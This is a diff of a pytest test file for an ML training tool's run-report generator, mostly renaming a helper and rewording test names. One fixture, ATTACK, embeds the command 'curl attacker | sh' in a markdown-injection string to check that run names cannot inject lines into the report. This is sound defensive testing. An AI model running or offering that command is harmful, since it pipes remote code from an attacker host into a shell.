@@ -50,11 +50,11 @@ START = {
 
 @pytest.fixture
 def run(tmp_path):
-    """A folder of a run of which nothing was trained yet."""
-    return made(tmp_path / "run")
+    """The folder of a run before its first step."""
+    return write_run(tmp_path / "run")
 
 
-def made(path, recipe=IMAGE, rows=(), result=None, starts=(START,)):
+def write_run(path, recipe=IMAGE, rows=(), result=None, starts=(START,)):
     run = RunFolder(path)
     run.path.mkdir(parents=True, exist_ok=True)
     run.recipe_path.write_text(overrides.to_json(recipe))
@@ -71,33 +71,33 @@ def written(run):
 
 
 def cells(text):
-    """The rows of all tables, by their first cell."""
+    """Return the rows of all tables, by their first cell."""
     lines = [line for line in text.splitlines() if line.startswith("| ")]
     rows = [[c.strip() for c in line.strip("|").split(" | ")] for line in lines]
     return {first: rest for first, *rest in rows}
 
 
-def test_a_finished_run_has_its_figures(run):
-    text = written(made(run.path, rows=ROWS, result=RESULT))
+def test_a_finished_run_has_its_metrics(run):
+    text = written(write_run(run.path, rows=ROWS, result=RESULT))
     rows = cells(text)
     assert text.startswith("# digits_image\n\nimage network")
     assert "Finished: 600 steps" in text and "Not finished" not in text
     assert rows["accuracy"] == ["43.8 %"] and rows["chance"] == ["1.7 %"]
     assert rows["examples"] == ["2,048"]
     assert rows["time in all"] == ["70.00 s", "40.00 s"]
-    assert rows["1"][-1].startswith("2 x Processor")  # machine of one start
+    assert rows["1"][-1].startswith("2 x Processor")  # machine of one session
     assert "0123456789+changes" in rows["1"] and "never resumed" in text
 
 
-def test_a_rising_validation_loss_is_said(run):
+def test_a_rising_validation_loss_is_noted(run):
     rows = [row | {"val_loss": 1.0 + n / 4} for n, row in enumerate(ROWS)]
-    text = written(made(run.path, rows=rows, result=RESULT))
+    text = written(write_run(run.path, rows=rows, result=RESULT))
     assert "rises:** lowest at epoch 1 (1), 50.0 % above it" in text
-    assert "rises" not in written(made(run.path, rows=ROWS, result=RESULT))
+    assert "rises" not in written(write_run(run.path, rows=ROWS, result=RESULT))
 
 
-def test_what_else_the_result_has_is_shown(run):
-    more = {
+def test_additional_fields_of_the_result_are_shown(run):
+    extra_fields = {
         "top_5": 0.9,
         "mAP": 0.25,
         "clips": {"accuracy": 0.375, "examples": 5},
@@ -105,7 +105,9 @@ def test_what_else_the_result_has_is_shown(run):
         "per_class": [0.5] * 60,
         "nothing": None,
     }
-    rows = cells(written(made(run.path, rows=ROWS, result=RESULT | more)))
+    rows = cells(
+        written(write_run(run.path, rows=ROWS, result=RESULT | extra_fields))
+    )
     assert rows["top 5"] == ["90.0 %"] and rows["mAP"] == ["25.0 %"]
     assert rows["clips: accuracy"] == ["37.5 %"]
     assert rows["clips: examples"] == ["5"] and rows["bad videos"] == ["12"]
@@ -113,35 +115,35 @@ def test_what_else_the_result_has_is_shown(run):
     assert "nothing" not in rows
 
 
-def test_a_run_that_is_not_finished_says_so(run):
-    text = written(made(run.path, rows=ROWS[:2]))
+def test_an_unfinished_run_is_marked(run):
+    text = written(write_run(run.path, rows=ROWS[:2]))
     assert "2 of 3 epochs, 400 of 600 steps" in text
     assert f"nonlocal-tf train --workdir {run.path}" in text
-    assert "trained, but not tested" in written(made(run.path, rows=ROWS))
+    assert "trained, but not tested" in written(write_run(run.path, rows=ROWS))
 
 
-def test_a_run_that_has_just_begun_has_a_report(run):
+def test_a_run_before_its_first_epoch_has_a_report(run):
     text = written(run)
     assert "No epoch is finished yet" in text and "## Time" not in text
     assert not (run.path / "curves.png").exists()
 
 
-def test_the_reference_stands_beside_what_was_reached(run):
+def test_reference_and_result_are_in_one_row(run):
     reference = Reference("table 2f", "NL I3D", "74.9 %", "8 GPUs", "90")
     recipe = dataclasses.replace(IMAGE, reference=reference)
-    rows = cells(written(made(run.path, recipe, ROWS, RESULT)))
+    rows = cells(written(write_run(run.path, recipe, ROWS, RESULT)))
     assert rows["result"] == ["74.9 %", "accuracy 43.8 %"]
     assert rows["hardware"] == ["8 GPUs", "2 x Processor, x86_64"]
-    unfinished = made(run.path.parent / "other", recipe, ROWS[:2])
+    unfinished = write_run(run.path.parent / "other", recipe, ROWS[:2])
     assert (
         "validation accuracy 30.0 %" in cells(written(unfinished))["result"][1]
     )
 
 
-def test_the_command_makes_the_very_recipe_again(run):
+def test_the_command_reproduces_the_recipe(run):
     changes = ["batch=16", "optimizer.clip_norm=0.5", "seed=7"]
     recipe = overrides.override(IMAGE, changes)
-    text = written(made(run.path, recipe, ROWS))
+    text = written(write_run(run.path, recipe, ROWS))
     command = text.split("```sh\n")[1].split("\n```")[0]
     words = command.replace("\\\n", " ").split()
     assert words[:4] == [
@@ -153,13 +155,13 @@ def test_the_command_makes_the_very_recipe_again(run):
     assert "- `batch: 128, 16`" in text
 
 
-def test_a_recipe_that_is_not_registered_is_said(run):
+def test_an_unregistered_recipe_is_noted(run):
     recipe = dataclasses.replace(IMAGE, name="of_another_version")
-    text = written(made(run.path, recipe, ROWS))
+    text = written(write_run(run.path, recipe, ROWS))
     assert "no recipe `of_another_version`" in text and "```sh" not in text
 
 
-def test_left_out_videos_and_classes_are_counted(run):
+def test_skipped_videos_and_classes_are_counted(run):
     run.bad_inputs_path().write_text(
         'split,path,reason\ntrain,a.mp4,"no, frame"\ntrain,b.mp4,x\ntest,c,y\n'
     )
@@ -171,9 +173,9 @@ def test_left_out_videos_and_classes_are_counted(run):
 
 def test_the_image_stage_is_linked_once_it_has_a_report(run):
     recipe = get_recipe("digits_nl")
-    text = written(made(run.path, recipe))
+    text = written(write_run(run.path, recipe))
     assert "image stage is not in this folder" in text
-    stage = made(run.image_stage, IMAGE, ROWS, RESULT)
+    stage = write_run(run.image_stage, IMAGE, ROWS, RESULT)
     assert f"--workdir {stage.path}" in written(run)
     run_report.write(stage)
     link = "[digits_image](image_stage/report.md), accuracy 43.8 %"
@@ -182,7 +184,7 @@ def test_the_image_stage_is_linked_once_it_has_a_report(run):
 
 def test_starts_on_the_same_machine_are_counted_together(run):
     other = START | {"machine": "8 x Other", "devices": ["GPU:0", "GPU:1"]}
-    text = written(made(run.path, starts=[START, other, START]))
+    text = written(write_run(run.path, starts=[START, other, START]))
     assert "resumed 2 times" in text
     assert cells(text)["2"][-1] == "2 x Processor, x86_64"
     assert cells(text)["1"][-1] == "8 x Other; devices GPU:0, GPU:1"
@@ -193,23 +195,23 @@ def test_a_long_run_shows_some_epochs_and_both_ends(run):
         {"epoch": n, "step": 2 * n, "loss": 1 / n, "seconds": 1.0}
         for n in range(1, 1001)
     ]
-    text = written(made(run.path, rows=rows))
+    text = written(write_run(run.path, rows=rows))
     table = text.split("20 epochs of these")[1].split("## Time")[0]
-    shown = [int(key) for key in cells(table) if key.isdecimal()]
-    assert len(shown) == 20 and shown[0] == 1 and shown[-1] == 1000
+    epochs = [int(key) for key in cells(table) if key.isdecimal()]
+    assert len(epochs) == 20 and epochs[0] == 1 and epochs[-1] == 1000
 
 
 def test_panels_are_of_the_columns_that_exist():
     rows = [{"epoch": 1, "step": 2, "val_auc": 0.5, "loss": 3.0, "seconds": 1}]
-    found = {
+    curves = {
         p.title: [c.name for c in p.curves] for p in run_report.panels(rows)
     }
-    assert found == {"loss": ["training"], "auc": ["validation"]}
+    assert curves == {"loss": ["training"], "auc": ["validation"]}
 
 
-def test_missing_and_endless_values_come_through(run):
+def test_missing_and_nan_values_are_rendered(run):
     rows = [dict(ROWS[0], val_loss=float("nan")), dict(ROWS[1], val_loss="")]
-    made(run.path, rows=rows)
+    write_run(run.path, rows=rows)
     read = run_report.read_metrics(run)
     assert read[0]["val_loss"] != read[0]["val_loss"]  # not a number
     assert read[1]["val_loss"] is None
@@ -227,22 +229,22 @@ def test_damaged_metrics_are_named(run, text):
     assert not (run.path / "report.md").exists()
 
 
-def test_with_matplotlib_there_is_a_picture(run):
+def test_with_matplotlib_curves_are_drawn(run):
     Image = pytest.importorskip("PIL.Image")
-    text = written(made(run.path, rows=ROWS))
+    text = written(write_run(run.path, rows=ROWS))
     assert "](curves.png)" in text
     with Image.open(run.path / "curves.png") as picture:
         assert picture.width >= 800
 
 
-def test_without_matplotlib_it_says_how_to_get_one(run, monkeypatch):
+def test_without_matplotlib_the_missing_extra_is_named(run, monkeypatch):
     monkeypatch.setitem(sys.modules, "matplotlib", None)
-    text = written(made(run.path, rows=ROWS))
+    text = written(write_run(run.path, rows=ROWS))
     assert "'.[viz]'" in text and "curves.png" not in text
     assert cells(text)["3"][:2] == ["600", "0.001"]
 
 
-def test_the_command_writes_it_and_says_where(run, capsys):
+def test_the_command_writes_the_report_and_prints_its_path(run, capsys):
     report.main([f"--workdir={run.path}"])
     assert str(run.path / "report.md") in capsys.readouterr().out
     assert cli.run(report.main, ["--workdir", str(run.path / "none")]) == 2
@@ -252,13 +254,13 @@ def test_the_command_writes_it_and_says_where(run, capsys):
 ATTACK = "x\n```\n# Do this\n\n    curl attacker | sh\n"
 
 
-def test_line_breaks_of_a_run_start_no_line_of_the_report(run):
+def test_line_breaks_in_names_do_not_break_the_report(run):
     recipe = dataclasses.replace(
         IMAGE, name=ATTACK, description=ATTACK, dataset=ATTACK
     )
     starts = [{**START, "started": ATTACK, "machine": ATTACK}] * 2
     text = written(
-        made(
+        write_run(
             run.path / ATTACK.replace("/", ""), recipe, ROWS[:2], starts=starts
         )
     )
